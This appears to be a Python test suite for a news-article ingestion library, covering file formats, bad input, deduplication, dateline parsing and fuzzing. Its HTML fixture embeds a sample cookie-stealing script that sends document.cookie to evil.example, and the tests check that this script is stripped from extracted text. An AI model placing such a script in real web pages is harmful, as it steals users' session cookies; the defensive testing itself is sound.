"""Ingestion: every input kind, every bad input, dedup, stdin, directories, dates, language."""
from __future__ import annotations

import gzip
import io
import json
import os
import re
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accord.ingest import MAX_CHARS, IngestStats, article_id, iter_articles, normalise, read_stream
from accord.ingest.dates import from_dateline, normalise_date
from accord.ingest.language import detect
from accord.records import Article

SHARED = Path(__file__).resolve().parents[2] / "shared" / "eval"

STORY = ("Mediators from Egypt and Qatar met delegations from both sides in Cairo on Monday, "
         "officials said, as pressure grew for a ceasefire before the end of the month.\n\n"
         "\u201cWe are closer than we have been for weeks,\u201d one Egyptian official told reporters, "
         "asking not to be named because the talks were private.")
FRENCH = ("Les négociateurs se sont retrouvés lundi au Caire pour une nouvelle série de discussions, "
          "selon plusieurs responsables, qui restent prudents sur les chances d'un accord rapide.")
PAGE = """<!DOCTYPE html><html><head><title>Ceasefire talks resume in Cairo</title>
<meta property="og:site_name" content="Nile Ledger">
<meta property="article:published_time" content="2024-08-19T09:30:00Z">
<script>document.cookie = "stolen";</script></head>
<body onload="track()"><nav>Home | World | Sport</nav><article><h1>Ceasefire talks resume in Cairo</h1>
<p onclick="alert('x')">Mediators from Egypt and Qatar met delegations from both sides in Cairo on Monday,
officials said, as pressure grew for a ceasefire before the end of the month.</p>
<p>One Egyptian official said the gaps on the border corridor had narrowed, though a second round
would be needed before any announcement could be made by the mediators.</p>
<script>fetch("https://evil.example/" + document.cookie)</script></article>
<footer>Copyright Nile Ledger</footer></body></html>"""


def ingest(paths, stats=None):
    messages: list[str] = []
    articles = list(iter_articles([str(p) for p in paths], messages.append, stats or IngestStats()))
    return articles, messages


def write(path: Path, data: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def make_warc(path: Path, pages: list[tuple[str, bytes, str]], gzipped: bool) -> Path:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    with open(path, "wb") as out:
        writer = WARCWriter(out, gzip=gzipped)
        for url, body, ctype in pages:
            headers = StatusAndHeaders("200 OK", [("Content-Type", ctype)], protocol="HTTP/1.1")
            writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body),
                                                          http_headers=headers))
    return path


# --- one test per input kind ---------------------------------------------------------------

def test_text_file_is_one_article_with_verbatim_text(tmp_path):
    path = write(tmp_path / "cairo.txt", STORY)
    [article], messages = ingest([path])
    assert messages == []
    assert article.text == STORY                       # curly quotes and blank lines kept
    assert article.source == str(path)
    assert article.language == "en"
    assert re.fullmatch(r"[0-9a-f]{16}", article.article_id)


def test_html_page_gives_main_text_title_date_and_site_name(tmp_path):
    [article], messages = ingest([write(tmp_path / "page.html", PAGE)])
    assert messages == []
    assert "Mediators from Egypt and Qatar" in article.text
    assert "stolen" not in article.text and "alert" not in article.text and "evil" not in article.text
    assert article.title == "Ceasefire talks resume in Cairo"
    assert article.outlet == "Nile Ledger"
    assert article.published == "2024-08-19"


def test_html_fragment_too_small_for_trafilatura_still_gives_its_text(tmp_path):
    [article], _ = ingest([write(tmp_path / "snippet.htm", "<p>Talks in Doha ended without a deal.</p>")])
    assert article.text == "Talks in Doha ended without a deal."


def test_jsonl_corpus_keeps_every_field(tmp_path):
    record = {"id": "cairo-1", "url": "https://example.org/cairo", "title": "Talks resume",
              "outlet": "Nile Ledger", "published": "2024-08-19", "text": STORY}
    path = write(tmp_path / "corpus.jsonl", json.dumps(record) + "\n")
    [article], messages = ingest([path])
    assert messages == []
    assert (article.id, article.url, article.title, article.outlet, article.published) == (
        "cairo-1", "https://example.org/cairo", "Talks resume", "Nile Ledger", "2024-08-19")
    assert article.text == STORY and article.source == str(path)


def test_json_file_holding_a_list_or_a_single_article(tmp_path):
    many = write(tmp_path / "many.json", json.dumps([{"text": STORY, "id": "a"}, {"text": FRENCH, "id": "b"}]))
    one = write(tmp_path / "one.json", json.dumps({"text": "Kenya offered to host the next round of talks.", "id": "c"}))
    articles, messages = ingest([many, one])
    assert [a.id for a in articles] == ["a", "b", "c"] and messages == []


def test_event_coding_jsonl_with_compact_dates_and_language(tmp_path):
    lines = [{"id": "E1", "text": "Kenya offered to host the next round of talks.", "date": "19950101"},
             {"id": "E2", "language": "es", "date": "19940611",
              "text": "El gobierno pidió a los manifestantes abandonar la plaza."}]
    articles, _ = ingest([write(tmp_path / "events.jsonl", "\n".join(map(json.dumps, lines)))])
    assert [(a.id, a.published, a.language) for a in articles] == [
        ("E1", "1995-01-01", "en"), ("E2", "1994-06-11", "es")]


def test_gzipped_corpus_is_read_through_gzip(tmp_path):
    lines = [json.dumps({"id": "g1", "text": "Kenya offered to host the next round of talks."})]
    articles, messages = ingest([write(tmp_path / "c.jsonl.gz", gzip.compress("\n".join(lines).encode()))])
    assert [a.id for a in articles] == ["g1"] and messages == []
    articles, messages = ingest([write(tmp_path / "d.json.gz", b"not gzip at all")])
    assert articles == [] and len(messages) == 1 and "d.json.gz" in messages[0]


@pytest.mark.skipif(not SHARED.exists(), reason="shared eval data not present")
def test_shared_plover_gold_standard_reads_without_errors():
    articles, messages = ingest([SHARED / "events" / "plover_gsr" / "plover_gsr_cameo_v0.5b1.jsonl"])
    assert len(articles) > 200 and messages == []
    assert all(a.language == "en" for a in articles)


def test_rss_feed_entries_carry_link_date_and_feed_title(tmp_path):
    rss = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>
<title>Horn Dispatch</title><link>https://example.org</link>
<item><title>Sudan talks open</title><link>https://example.org/sudan-talks</link>
<pubDate>Wed, 14 Aug 2024 08:00:00 GMT</pubDate>
<description>&lt;p&gt;Army and &lt;b&gt;RSF&lt;/b&gt; envoys were expected in Geneva, US officials said.&lt;/p&gt;&lt;script&gt;steal()&lt;/script&gt;</description></item>
<item><title>Second item</title><link>https://example.org/two</link>
<description>The African Union urged both sides to attend the Geneva meeting.</description></item>
</channel></rss>"""
    articles, messages = ingest([write(tmp_path / "horn.rss", rss)])
    assert messages == []
    first = articles[0]
    assert first.text == "Army and RSF envoys were expected in Geneva, US officials said."
    assert (first.url, first.published, first.outlet, first.title) == (
        "https://example.org/sudan-talks", "2024-08-14", "Horn Dispatch", "Sudan talks open")
    assert len(articles) == 2


def test_atom_feed_prefers_full_content_to_summary(tmp_path):
    atom = """<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">
<title>Caucasus Notes</title><id>urn:x</id><updated>2024-08-30T12:00:00Z</updated>
<entry><title>Border talks</title><id>urn:x:1</id><link href="https://example.org/border"/>
<updated>2024-08-30T12:00:00Z</updated><summary>Short summary.</summary>
<content type="html">&lt;p&gt;Armenian and Azerbaijani commissions met on the border on Friday.&lt;/p&gt;&lt;p&gt;They agreed to meet again.&lt;/p&gt;</content>
</entry></feed>"""
    [article], _ = ingest([write(tmp_path / "caucasus.atom", atom)])
    assert article.text == "Armenian and Azerbaijani commissions met on the border on Friday.\n\nThey agreed to meet again."
    assert article.url == "https://example.org/border" and article.published == "2024-08-30"
    assert article.outlet == "Caucasus Notes"


@pytest.mark.parametrize("gzipped", [False, True])
def test_warc_html_response_is_extracted_with_target_uri(tmp_path, gzipped):
    path = make_warc(tmp_path / ("crawl.warc.gz" if gzipped else "crawl.warc"), [
        ("https://example.org/cairo", PAGE.encode(), "text/html; charset=utf-8"),
        ("https://example.org/logo.png", b"\x89PNG\r\n\x1a\n\x00\x00", "image/png"),
    ], gzipped)
    [article], messages = ingest([path])
    assert messages == []
    assert article.url == "https://example.org/cairo" and article.source == str(path)
    assert "Mediators from Egypt and Qatar" in article.text and article.outlet == "Nile Ledger"


# --- bad input: one clear line each, the batch goes on --------------------------------------

def test_every_bad_input_gets_one_line_and_the_batch_goes_on(tmp_path):
    good = write(tmp_path / "good.txt", STORY)
    warc = make_warc(tmp_path / "whole.warc.gz", [("https://example.org/a", PAGE.encode(), "text/html")], True)
    bad = {
        "binary": write(tmp_path / "x.bin", bytes(range(256)) * 40),
        "empty": write(tmp_path / "empty.txt", b""),
        "html": write(tmp_path / "cut.html", PAGE[: PAGE.index("<footer>")]),
        "jsonl": write(tmp_path / "broken.jsonl", '{"text": "Kenya offered to host talks."}\n{"text": "unterminated\n'),
        "feed": write(tmp_path / "feed.rss", '<?xml version="1.0"?><rss><channel><title>Broken'),
        "warc": write(tmp_path / "cut.warc.gz", warc.read_bytes()[: warc.stat().st_size // 2]),
        "missing": tmp_path / "nowhere.txt",
    }
    stats = IngestStats()
    articles, messages = ingest([*bad.values(), good], stats)
    for kind, path in bad.items():
        lines = [m for m in messages if m.startswith(str(path))]
        assert len(lines) == 1, (kind, messages)
    assert any(a.source == str(good) for a in articles)
    assert any(a.source == str(bad["jsonl"]) for a in articles)       # its good line
    assert any(a.source == str(bad["html"]) for a in articles)        # truncated, still read
    assert stats.errors == len(messages) == len(bad)


def test_feed_file_naming_another_file_never_reads_it(tmp_path):
    secret = write(tmp_path / "secret.rss", '<rss version="2.0"><channel><title>S</title><item>'
                   '<description>Private notes on the talks.</description></item></channel></rss>')
    articles, messages = ingest([write(tmp_path / "pointer.rss", str(secret))])
    assert articles == [] and len(messages) == 1


def test_binary_file_is_skipped_with_a_clear_line(tmp_path):
    path = write(tmp_path / "data" / "x.bin", b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8)
    articles, messages = ingest([path])
    assert articles == [] and messages == [f"{path}: binary file, skipped"]


def test_empty_and_whitespace_files_are_skipped(tmp_path):
    articles, messages = ingest([write(tmp_path / "a.txt", b""), write(tmp_path / "b.txt", b"  \n\n ")])
    assert articles == [] and len(messages) == 2 and all("empty file" in m for m in messages)


def test_invalid_utf8_is_decoded_by_detection_and_reported_once(tmp_path):
    text = "Le médiateur a déclaré que les délégués étaient à Genève. " * 3
    path = write(tmp_path / "latin.txt", text.encode("cp1252"))
    [article], messages = ingest([path])
    assert article.text == text
    assert len(messages) == 1 and "not valid UTF-8" in messages[0] and str(path) in messages[0]


def test_jsonl_broken_line_names_file_and_line_and_rest_continues(tmp_path):
    path = write(tmp_path / "c.jsonl", "\n".join([
        json.dumps({"id": "1", "text": "Kenya offered to host the next round of talks."}),
        '{"id": "2", "text": ',
        json.dumps({"id": "3", "text": "The African Union called for an immediate truce."}),
        json.dumps({"id": "4", "title": "no text here"}),
    ]))
    articles, messages = ingest([path])
    assert [a.id for a in articles] == ["1", "3"]
    assert len(messages) == 2
    assert messages[0].startswith(f"{path}:2: invalid JSON") and messages[1].startswith(f"{path}:4:")


def test_fifty_megabyte_text_file_is_truncated_in_bounded_time(tmp_path):
    sentence = "Negotiators met again in Doha on Thursday as mediators pressed both sides to accept a plan. "
    path = tmp_path / "huge.txt"
    with open(path, "w") as out:
        for _ in range(50 * 1024 * 1024 // len(sentence) // 1000 + 1):
            out.write(sentence * 1000)
    started = time.perf_counter()
    [article], messages = ingest([path])
    assert time.perf_counter() - started < 10
    assert len(article.text) <= MAX_CHARS and article.text.startswith("Negotiators met again")
    assert len(messages) == 1 and "truncated" in messages[0] and str(path) in messages[0]


def test_non_english_article_is_ingested_with_its_language(tmp_path):
    [article], messages = ingest([write(tmp_path / "caire.txt", FRENCH)])
    assert article.language == "fr" and article.text == FRENCH and messages == []


def test_missing_path_is_reported_and_others_still_read(tmp_path):
    good = write(tmp_path / "good.txt", STORY)
    articles, messages = ingest([tmp_path / "missing.txt", good])
    assert len(articles) == 1 and messages == [f"{tmp_path / 'missing.txt'}: no such file or directory"]


def test_malformed_html_with_no_text_is_reported(tmp_path):
    path = write(tmp_path / "junk.html", "<<<div>>></p></</<<>><script>alert(1)</script><style>p {}</style>")
    articles, messages = ingest([path])
    assert articles == [] and len(messages) == 1 and str(path) in messages[0]


# --- dedup, ids, paths ------------------------------------------------------------------------

def test_exact_duplicates_after_normalising_are_skipped_and_counted(tmp_path):
    a = write(tmp_path / "a.txt", "Hamas said it \u201cwelcomed\u201d the plan.\n\nIsrael\u2019s cabinet met.")
    b = write(tmp_path / "b.txt", 'Hamas said it "welcomed" the plan. Israel\'s   cabinet met.  ')
    stats = IngestStats()
    articles, _ = ingest([a, b, a], stats)
    assert len(articles) == 1 and articles[0].text.startswith("Hamas said it \u201c")
    assert (stats.files, stats.articles, stats.duplicates) == (3, 1, 2)


def test_article_id_hashes_the_normalised_text():
    assert article_id("A  \u201cdeal\u201d\n") == article_id('A "deal"')
    assert article_id("A deal") != article_id("A deal.")
    assert normalise(" x\u00a0\u2018y\u2019 ") == "x 'y'"
    assert len(article_id("x")) == 16


def test_directories_are_walked_recursively_in_sorted_order(tmp_path):
    write(tmp_path / "b" / "two.txt", "Qatar said the talks would continue next week in Doha.")
    write(tmp_path / "a" / "deep" / "one.txt", "Egypt hosted a new round of indirect talks on Sunday.")
    write(tmp_path / "a" / "one.gold.json", "{}")
    write(tmp_path / "README.md", "This folder holds test articles.")
    write(tmp_path / ".hidden.txt", "Hidden files are not articles.")
    articles, messages = ingest([tmp_path])
    assert [Path(a.source).name for a in articles] == ["one.txt", "two.txt"] and messages == []


def test_several_paths_and_stdin(tmp_path, monkeypatch):
    lines = "\n".join(json.dumps({"id": str(i), "text": t}) for i, t in enumerate(
        ["Kenya offered to host the next round of talks.", "The African Union called for a truce."]))
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BufferedReader(io.BytesIO(lines.encode()))))
    articles, messages = ingest(["-", write(tmp_path / "c.txt", STORY)])
    assert [a.id for a in articles] == ["0", "1", None] and messages == []
    assert articles[0].source == "<stdin>"


def test_plain_text_on_stdin_is_one_article(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BufferedReader(io.BytesIO(STORY.encode()))))
    [article], _ = ingest(["-"])
    assert article.text == STORY


# --- dates and language -----------------------------------------------------------------------

@pytest.mark.parametrize("opening, expected", [
    ("WASHINGTON \u2014 Tuesday, 20 August 2024 \u2014 The secretary of state flew to Doha.", "2024-08-20"),
    ("DOHA, Qatar, Aug. 21, 2024 (AP) \u2014 Mediators said talks would go on.", "2024-08-21"),
    ("KHARTOUM, 14 August 2024 - The army said it would not attend.", "2024-08-14"),
    ("JERUSALEM (AP) \u2014 Israel said on March 3, 2024 that talks had stalled.", None),
    ("Israel, Egypt and Qatar said on 3 March 2024 that talks had stalled.", None),
    ("Talks resumed on Monday.", None),
])
def test_published_date_from_a_dateline(opening, expected):
    assert from_dateline(opening) == expected


def test_dateline_after_a_headline_and_the_headline_as_title(tmp_path):
    text = ("Sudan talks open in Geneva without the army\n\n"
            "GENEVA, Aug 14, 2024 (Lakeside Wire) \u2013 US-led talks on the war in Sudan opened on Wednesday.")
    [article], _ = ingest([write(tmp_path / "geneva.txt", text)])
    assert article.published == "2024-08-14"
    assert article.title == "Sudan talks open in Geneva without the army"
    assert article.text == text


@pytest.mark.parametrize("text, expected", [
    ("Talks resume in Cairo\n\nPublished On 25 Aug 2024 25 Aug 2024\n\nA delegation arrived on Saturday.", "2024-08-25"),
    ("Talks resume in Cairo\nUpdated: 3 March 2025 14:05 GMT\nA delegation arrived.", "2025-03-03"),
    ("Talks resume in Cairo\nPublished by the ministry in 2024\nA delegation arrived.", None),
])
def test_published_date_from_a_web_pages_date_line(text, expected):
    assert from_dateline(text) == expected


def test_dateline_without_a_year_takes_the_most_recent_past_date():
    found = from_dateline("CAIRO, Aug 19 (Reuters) - Egypt said the talks would resume.")
    assert found is not None and found.endswith("-08-19")


def test_metadata_date_wins_over_the_dateline(tmp_path):
    record = {"text": "WASHINGTON \u2014 Tuesday, 20 August 2024 \u2014 The envoy left.", "published": "2024-08-21"}
    [article], _ = ingest([write(tmp_path / "d.jsonl", json.dumps(record))])
    assert article.published == "2024-08-21"


@pytest.mark.parametrize("value, expected", [
    ("20240820", "2024-08-20"), ("2024-08-20T10:00:00Z", "2024-08-20"),
    ("Tue, 20 Aug 2024 10:00:00 GMT", "2024-08-20"), ("20241340", None), ("soon", None), (None, None),
])
def test_metadata_dates_are_normalised(value, expected):
    assert normalise_date(value) == expected


def test_short_english_sentences_default_to_english():
    for text in ["Hamas said no.", "Netanyahu met Blinken in Jerusalem on Monday.", "OK"]:
        assert detect(text) == "en"
    assert detect(FRENCH) == "fr"


# --- robustness: random input to every reader ------------------------------------------------

SUFFIXES = ["x.txt", "x.html", "x.jsonl", "x.json", "x.rss", "x.warc", "x.warc.gz", "x.bin", "x.jsonl.gz"]


def _read_all(data: bytes, name: str) -> tuple[list[Article], list[str]]:
    messages: list[str] = []
    articles = list(read_stream(io.BufferedReader(io.BytesIO(data)), name, messages.append))
    for article in articles:
        assert isinstance(article, Article) and article.text.strip()
        assert re.fullmatch(r"[0-9a-f]{16}", article.article_id)
        assert article.published is None or re.fullmatch(r"\d{4}-\d{2}-\d{2}", article.published)
    assert all(m.startswith(name) for m in messages)
    return articles, messages


# ACCORD_FUZZ_EXAMPLES=5000 for a longer run; the default keeps this file at a few seconds.
_FUZZ = settings(max_examples=int(os.environ.get("ACCORD_FUZZ_EXAMPLES", "150")), deadline=None, suppress_health_check=[HealthCheck.too_slow])
_MARKUP = st.lists(st.sampled_from(["<html>", "<p>", "</p>", "<script>", "<rss>", "<item>", "<title>",
                                    "<description>", "&amp;", "&#0;", "<![CDATA[", "{", '"text":', "}", "\n",
                                    "WARC/1.0\r\n", "CAIRO, Aug 19 (Reuters) - ", "\u201c", "\x00"])
                   | st.text(max_size=20), max_size=30).map("".join)


@pytest.mark.parametrize("name", SUFFIXES)
@_FUZZ
@given(data=st.binary(max_size=2048))
def test_random_bytes_never_crash_a_reader(name, data):
    _read_all(data, name)


@pytest.mark.parametrize("name", SUFFIXES)
@_FUZZ
@given(text=_MARKUP)
def test_random_markup_never_crashes_a_reader(name, text):
    _read_all(text.encode("utf-8", "surrogatepass"), name)


@pytest.mark.parametrize("name, prefix", [("x.warc.gz", b"WARC/1.0\r\n"), ("x.jsonl.gz", b'{"text": "')])
@_FUZZ
@given(gz=st.binary(max_size=512))
def test_gzip_with_random_content_never_crashes_a_reader(name, prefix, gz):
    _read_all(gzip.compress(prefix + gz), name)


@_FUZZ
@given(text=st.text(max_size=300) | _MARKUP.map(lambda t: "CAIRO, " + t))
def test_dates_and_language_never_fail_on_random_text(text):
    found = from_dateline(text)
    assert found is None or re.fullmatch(r"\d{4}-\d{2}-\d{2}", found)
    assert normalise_date(text) is None or re.fullmatch(r"\d{4}-\d{2}-\d{2}", normalise_date(text))
    assert re.fullmatch(r"[a-z]{2,3}", detect(text))
